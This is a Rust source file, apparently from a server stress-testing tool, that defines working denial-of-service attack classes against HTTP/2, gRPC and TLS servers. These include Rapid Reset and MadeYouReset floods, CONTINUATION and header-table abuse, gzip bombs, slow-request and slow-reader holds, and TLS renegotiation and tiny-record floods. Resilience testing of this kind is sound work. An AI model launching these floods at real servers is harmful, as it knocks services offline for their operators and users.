//! Classes of attacks.

use std::io::Write;
use std::sync::LazyLock;

use clap::ValueEnum;
use flate2::Compression;
use flate2::write::GzEncoder;
use thalweg::tls::rustls::{ContentType, SupportedProtocolVersion};
use thalweg_engine::http2::frame::{Flags, Kind, PREFACE, Setting};

use super::frames::Frames;
use super::hoard::{Hoard, Protocol};
use super::tls::{Records, TLS12, TLS13, TlsWork};

/// A class of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Class {
    /// PINGs, which require a response
    Ping,
    /// SETTINGS, which require an acknowledgement
    Settings,
    /// Acknowledgements of SETTINGS that were never sent
    SettingsAcks,
    /// Calls without ever acknowledging SETTINGS
    NeverAcks,
    /// PRIORITY frames
    Priority,
    /// Frames of an unknown type
    Unknown,
    /// WINDOW_UPDATEs of one byte
    WindowUpdates,
    /// Empty DATA frames
    EmptyData,
    /// DATA frames of one byte
    TinyData,
    /// A header block that never ends
    Continuation,
    /// Streams reset immediately after they are opened (CVE-2023-44487)
    RapidReset,
    /// Streams that the server is made to reset (CVE-2025-8671)
    MadeYouReset,
    /// More streams than allowed, none of which ends
    Refused,
    /// CONNECT requests
    Connect,
    /// Large header blocks on a stream that was reset
    BlocksOnReset,
    /// Large header blocks on a stream that ended long ago
    BlocksOnForgotten,
    /// Header fields of two octets that refer to a table entry of 4 KB
    NameCopies,
    /// Header lists that are too large
    LargeLists,
    /// Messages that decompress to a thousand times their size
    GzipBomb,
    /// Messages of 4 KiB that decompress to 4 MiB, the accepted maximum
    GzipSmall,
    /// Streams of a dozen such messages
    GzipStreams,
    /// Messages of empty gzip members
    GzipMembers,
    /// Requests that lack one byte, on as many streams as allowed
    Unfinished,
    /// Large responses that are never read: the window is 0
    Unread,
    /// Half a header block, below the size limit of every server
    HalfBlock,
    /// Calls without a message, with metadata of 16 KiB encoded in 500 bytes by table indices
    LargeHeads,
    /// Complete calls with such metadata, as many per read as possible
    LargeHeadCalls,
    /// Connections that are idle after the handshake
    Idle,
    /// Requests sent one byte at a time
    SlowRequest,
    /// Calls whose responses are not read from the socket
    SlowReader,
    /// Large JSON responses over HTTP/1.1 that are never read
    UnreadHttp1,
    /// Large JSON responses over HTTP/1.1 and TLS that are never read
    TlsUnreadHttp1,
    /// Large responses, each read at one byte every ten seconds
    Trickle,
    /// Like trickle, with JSON over HTTP/2
    TrickleJson,
    /// Like trickle, over TLS
    TlsTrickle,
    /// Large responses of handlers that all start before the first has responded
    Tasks,
    /// Like tasks, with JSON over HTTP/2
    TasksJson,
    /// Like tasks, over TLS
    TlsTasks,
    /// TLS: connections that send nothing
    TlsSilent,
    /// TLS: half a ClientHello
    TlsHalfHello,
    /// TLS: a ClientHello and nothing more
    TlsNoFinish,
    /// TLS: repeated complete handshakes
    TlsHandshakes,
    /// TLS: garbage on successive connections
    TlsGarbage,
    /// TLS: HTTP without TLS on successive connections
    TlsPlain,
    /// TLS: a handshake message that never ends, in records of one byte
    TlsFragments,
    /// TLS 1.2: repeated renegotiation requests
    TlsRenegotiation,
    /// TLS 1.2: warning alerts
    TlsAlerts,
    /// TLS 1.3: KeyUpdates, which require a response
    TlsKeyUpdates,
    /// TLS: empty records
    TlsEmptyRecords,
    /// TLS: the messages of a valid call in records of one byte
    TlsTinyRecords,
}

/// Work of an attacker.
pub(crate) enum Work {
    /// Sends as much as the server accepts on one connection.
    Flood { settings: &'static [Setting], acks: bool, first: fn(&mut Frames), round: fn(&mut Frames, u64) },
    /// Sends data on several connections, and a little more ten times per second.
    Hold {
        settings: &'static [Setting],
        reads: bool,
        /// Whether the end of a call counts like that of a connection.
        counts_calls: bool,
        first: fn(&mut Frames),
        drip: fn(&mut Frames),
    },
    /// Attacks TLS.
    Tls(TlsWork),
    /// Requests responses without reading them.
    Hoard(Hoard),
}

/// Flags of a header block that is the whole request.
const WHOLE: Flags = Flags::END_HEADERS.with_if(true, Flags::END_STREAM);
const NOTHING: fn(&mut Frames) = |_| {};
/// Streams that every server should allow, as RFC 9113 §6.5.2 recommends.
const STREAMS: usize = 100;
/// Maximum frame size before the server's SETTINGS.
const FRAME_LEN: usize = 16 << 10;
/// Indexed field `:method: GET`.
const GET: u8 = 0x82;

fn flood(first: fn(&mut Frames), round: fn(&mut Frames, u64)) -> Work {
    Work::Flood { settings: &[], acks: true, first, round }
}

fn hold(first: fn(&mut Frames), drip: fn(&mut Frames)) -> Work {
    Work::Hold { settings: &[], reads: true, counts_calls: false, first, drip }
}

fn hoard(protocol: Protocol, calls: u32, is_compressed: bool, over_tls: bool) -> Work {
    Work::Hoard(Hoard { protocol, calls, is_compressed, over_tls })
}

fn records(
    version: &'static SupportedProtocolVersion,
    first: fn(&mut Records),
    round: fn(&mut Records, u64),
) -> Work {
    Work::Tls(TlsWork::Records { version, first, round })
}

impl Class {
    pub(crate) fn work(self) -> Work {
        match self {
            Self::Ping => flood(NOTHING, |it, _| it.ping()),
            Self::Settings => flood(NOTHING, |it, _| it.settings(&[])),
            Self::SettingsAcks => flood(NOTHING, |it, _| it.settings_ack()),
            Self::NeverAcks => Work::Flood {
                settings: &[],
                acks: false,
                first: NOTHING,
                round: |it, _| it.unary(&[], false, b""),
            },
            Self::Priority => flood(NOTHING, |it, _| it.frame(Kind::Priority, Flags::NONE, 1, &[0; 5])),
            Self::Unknown => flood(NOTHING, |it, _| it.frame(Kind::Unknown(99), Flags::NONE, 0, b"")),
            Self::WindowUpdates => flood(call, |it, _| it.window_update(1, 1)),
            Self::EmptyData => flood(call, |it, _| it.data(1, false, b"")),
            Self::TinyData => flood(
                |it| {
                    call(it);
                    // Prefix of a message of 4 MiB.
                    it.data(1, false, &[0, 0, 0x40, 0, 0]);
                },
                |it, _| it.data(1, false, b"x"),
            ),
            Self::Continuation => flood(
                |it| {
                    let stream = it.stream();
                    it.frame(Kind::Headers, Flags::NONE, stream, &[GET]);
                },
                |it, _| it.frame(Kind::Continuation, Flags::NONE, 1, &[GET]),
            ),
            Self::RapidReset => flood(NOTHING, |it, _| {
                let stream = it.call("UnaryCall");
                it.reset(stream);
            }),
            Self::MadeYouReset => flood(NOTHING, |it, _| {
                let stream = it.call("UnaryCall");
                it.window_update(stream, 0);
            }),
            Self::Refused => flood(NOTHING, |it, _| {
                it.call("StreamingCall");
            }),
            Self::Connect => flood(NOTHING, |it, _| {
                let stream = it.stream();
                // Literals `:method: CONNECT` and `:authority: a`.
                let block = [&[0x02, 7][..], b"CONNECT", &[0x01, 1], b"a"].concat();
                it.frame(Kind::Headers, Flags::END_HEADERS, stream, &block);
            }),
            Self::BlocksOnReset => flood(
                |it| {
                    let stream = it.call("UnaryCall");
                    it.reset(stream);
                },
                |it, _| it.frame(Kind::Headers, Flags::END_HEADERS, 1, &[GET; FRAME_LEN]),
            ),
            Self::BlocksOnForgotten => flood(
                |it| {
                    for _ in 0..64 {
                        let stream = it.call("UnaryCall");
                        it.reset(stream);
                    }
                },
                |it, _| it.frame(Kind::Headers, Flags::END_HEADERS, 3, &[GET; FRAME_LEN]),
            ),
            Self::NameCopies => flood(
                |it| {
                    // Adds a name of 4,000 bytes to the table.
                    let block = [&[0x40, 0x7f, 0xa1, 0x1e][..], &[b'a'; 4000], &[0]].concat();
                    let stream = it.stream();
                    it.frame(Kind::Headers, WHOLE, stream, &block);
                },
                |it, _| {
                    // Refers to it repeatedly, with an empty value.
                    let stream = it.stream();
                    let block = [0x7e, 0].repeat(FRAME_LEN / 2);
                    it.frame(Kind::Headers, WHOLE, stream, &block);
                },
            ),
            Self::LargeLists => flood(NOTHING, |it, _| {
                let stream = it.stream();
                it.frame(Kind::Headers, WHOLE, stream, &[GET; FRAME_LEN]);
            }),
            Self::GzipBomb => flood(NOTHING, |it, _| it.unary(&[("grpc-encoding", "gzip")], true, &BOMB)),
            Self::GzipSmall => {
                flood(NOTHING, |it, _| it.unary(&[("grpc-encoding", "gzip")], true, &SMALL_BOMB))
            }
            Self::GzipStreams => flood(NOTHING, |it, _| {
                let stream = it.call_with("StreamingFromClient", &[("grpc-encoding", "gzip")]);
                let len = (SMALL_BOMB.len() as u32).to_be_bytes();
                let envelope = [&[1][..], &len, &SMALL_BOMB].concat();
                (1..=12).for_each(|number| it.data(stream, number == 12, &envelope));
            }),
            Self::GzipMembers => flood(NOTHING, |it, _| {
                let members = EMPTY_MEMBER.repeat((4 << 20) / EMPTY_MEMBER.len() - 1);
                it.unary(&[("grpc-encoding", "gzip")], true, &members);
            }),
            Self::Unfinished => hold(
                |it| {
                    for _ in 0..STREAMS {
                        let stream = it.call("UnaryCall");
                        // All but the last byte of a message of 4 MiB, as far as the windows allow.
                        it.data(stream, false, &[0, 0, 0x40, 0, 0]);
                        for _ in 0..4 {
                            it.data(stream, false, &[0; 15_000]);
                        }
                    }
                },
                NOTHING,
            ),
            Self::Unread => Work::Hold {
                settings: &[Setting::InitialWindowSize(0)],
                reads: true,
                counts_calls: false,
                first: |it| {
                    for _ in 0..STREAMS {
                        // SimpleRequest { response_size: 4 MiB - 64 }
                        it.unary(&[], false, &[0x10, 0xc0, 0xff, 0xff, 0x01]);
                    }
                },
                drip: NOTHING,
            },
            Self::HalfBlock => hold(
                |it| {
                    let stream = it.stream();
                    it.frame(Kind::Headers, Flags::NONE, stream, &[GET; HALF_BLOCK_LEN]);
                    it.frame(Kind::Continuation, Flags::NONE, stream, &[GET; HALF_BLOCK_LEN]);
                },
                NOTHING,
            ),
            Self::LargeHeads => hold(
                |it| {
                    for _ in 0..STREAMS {
                        it.call_with("StreamingFromClient", &[("a", ""); FIELDS]);
                    }
                },
                NOTHING,
            ),
            Self::LargeHeadCalls => hold(large_head_calls, large_head_calls),
            Self::Idle => hold(NOTHING, NOTHING),
            Self::SlowRequest => Work::Hold {
                settings: &[],
                reads: true,
                counts_calls: true,
                first: |it| {
                    call(it);
                    it.data(1, false, &[0, 0, 0, 0xff, 0xff]);
                },
                drip: |it| {
                    it.data(1, false, b"x");
                    it.is_urgent = true;
                },
            },
            Self::SlowReader => Work::Hold {
                settings: &[Setting::InitialWindowSize(i32::MAX as u32)],
                reads: false,
                counts_calls: false,
                first: |it| {
                    it.window_update(0, i32::MAX as u32 / 2);
                    for _ in 0..STREAMS {
                        it.unary(&[], false, &[0x10, 0xc0, 0xff, 0xff, 0x01]);
                    }
                },
                // A client that reads nothing notices the end only when it writes.
                drip: |it| {
                    it.window_update(0, 1);
                    it.is_urgent = true;
                },
            },
            Self::UnreadHttp1 => hoard(Protocol::Http1, 1, false, false),
            Self::TlsUnreadHttp1 => hoard(Protocol::Http1, 1, false, true),
            Self::Trickle => hoard(Protocol::Grpc, 200, false, false),
            Self::TrickleJson => hoard(Protocol::Json, 200, false, false),
            Self::TlsTrickle => hoard(Protocol::Grpc, 200, false, true),
            Self::Tasks => hoard(Protocol::Grpc, 100, true, false),
            Self::TasksJson => hoard(Protocol::Json, 100, true, false),
            Self::TlsTasks => hoard(Protocol::Grpc, 100, true, true),
            Self::TlsSilent => Work::Tls(TlsWork::Stall(|_| b"")),
            Self::TlsHalfHello => Work::Tls(TlsWork::Stall(|hello| &hello[..hello.len() / 2])),
            Self::TlsNoFinish => Work::Tls(TlsWork::Stall(|hello| hello)),
            Self::TlsHandshakes => Work::Tls(TlsWork::Handshakes),
            Self::TlsGarbage => Work::Tls(TlsWork::Knock(|| b"SSH-2.0-OpenSSH_9.9\r\n".repeat(50))),
            Self::TlsPlain => Work::Tls(TlsWork::Knock(|| PREFACE.to_vec())),
            Self::TlsFragments => Work::Tls(TlsWork::Knock(|| {
                // A ClientHello of 64 KiB less one, with each byte in its own record.
                let message = [&[1, 0, 0xff, 0xff][..], &vec![3; 0xfff0]].concat();
                message.iter().flat_map(|byte| [22, 3, 1, 0, 1, *byte]).collect()
            })),
            Self::TlsRenegotiation => records(&TLS12, |_| (), |it, _| it.hello_again()),
            Self::TlsAlerts => {
                // Warning level, and `no_renegotiation`.
                records(&TLS12, |_| (), |it, _| it.record(ContentType::Alert, &[1, 100]))
            }
            Self::TlsKeyUpdates => Work::Tls(TlsWork::KeyUpdates),
            Self::TlsEmptyRecords => {
                records(&TLS13, |_| (), |it, _| it.record(ContentType::ApplicationData, b""))
            }
            Self::TlsTinyRecords => records(&TLS13, begin_tiny, |it, number| {
                let mut frames = Frames::new();
                if number.is_multiple_of(PARTS) {
                    let len = (PARTS * PART_LEN as u64) as u32;
                    frames.data(1, false, &[&[0][..], &len.to_be_bytes()].concat());
                }
                frames.data(1, false, &[0; PART_LEN]);
                it.byte_by_byte(&frames.out);
            }),
        }
    }
}

/// Less than half of the header block that gRPC C++ accepts, and sent with a CONTINUATION.
const HALF_BLOCK_LEN: usize = 7_000;
/// Fields of 33 bytes each, in a list of at most 16 KiB.
const FIELDS: usize = 470;
/// DATA frames of a message, and their length.
const PARTS: u64 = 4000;
const PART_LEN: usize = 1000;

/// Starts HTTP/2 and a call with a stream of messages.
fn begin_tiny(records: &mut Records) {
    let mut frames = Frames::new();
    frames.raw(PREFACE);
    frames.settings(&[]);
    frames.settings_ack();
    call(&mut frames);
    records.record(ContentType::ApplicationData, &frames.out);
}

/// Starts a client-streaming call on the first stream.
fn call(frames: &mut Frames) {
    frames.call("StreamingFromClient");
}

/// Sends as many complete calls as allowed, with metadata of 16 KiB.
fn large_head_calls(frames: &mut Frames) {
    for _ in 0..STREAMS {
        frames.unary(&[("a", ""); FIELDS], false, b"");
    }
}

/// An empty gzip member.
const EMPTY_MEMBER: [u8; 20] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0];

/// A gzip member of 256 MiB of zeros.
static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| gzip(&vec![0; 256 << 20]));

/// A gzip member of 4 MiB: a SimpleRequest with an unknown field of that size.
static SMALL_BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| {
    // Field 100 of type bytes, with a four-byte varint for its length.
    let len = (4 << 20) - 6;
    let head =
        [0xa2, 0x06, len as u8 | 0x80, (len >> 7) as u8 | 0x80, (len >> 14) as u8 | 0x80, (len >> 21) as u8];
    gzip(&[&head[..], &vec![0; len]].concat())
});

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).expect("writing to a Vec does not fail");
    encoder.finish().expect("writing to a Vec does not fail")
}
